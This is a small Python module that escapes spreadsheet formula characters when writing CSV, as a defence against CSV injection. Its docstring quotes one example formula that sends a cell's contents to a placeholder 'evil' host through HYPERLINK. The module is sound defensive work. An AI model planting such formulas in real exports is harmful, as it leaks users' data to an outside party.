"""CSV that is safe to open in a spreadsheet.

A cell starting with one of FORMULA_STARTS is a formula to Excel, LibreOffice or Sheets: a
nickname or a card such as =HYPERLINK("http://evil/?"&A1) would run when the file is opened
(OWASP "CSV injection"). A leading apostrophe makes it text.
"""

import csv

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def write_rows(stream, rows) -> None:
    """Write rows of cells as CSV, each text cell made safe."""
    csv.writer(stream).writerows([safe_cell(cell) for cell in row] for row in rows)
